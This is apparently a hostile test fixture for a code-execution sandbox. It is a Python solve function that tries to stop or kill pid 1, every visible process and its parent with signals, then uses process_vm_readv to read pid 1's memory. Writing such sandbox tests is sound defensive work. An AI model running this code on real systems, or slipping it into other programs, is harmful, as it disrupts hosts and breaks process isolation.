# ruff: noqa  (hostile test program with placeholders, not project code)
# expect: ok program_error program_timeout
# tests: {"assert_case": ["assert solve(3) == 42", "assert solve(5) == 99"]}
# Stops or kills the runner (pid 1) and every process it can see, then reads pid 1's memory.
import ctypes
import os
import signal


def solve(x=0):
    for sig in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM):
        for pid in (1, -1, os.getppid()):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
    try:
        libc = ctypes.CDLL(None)
        buf = ctypes.create_string_buffer(4096)

        class IoVec(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

        local = IoVec(ctypes.cast(buf, ctypes.c_void_p), 4096)
        remote = IoVec(0x400000, 4096)
        libc.process_vm_readv(1, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    except Exception:
        pass
    return 0
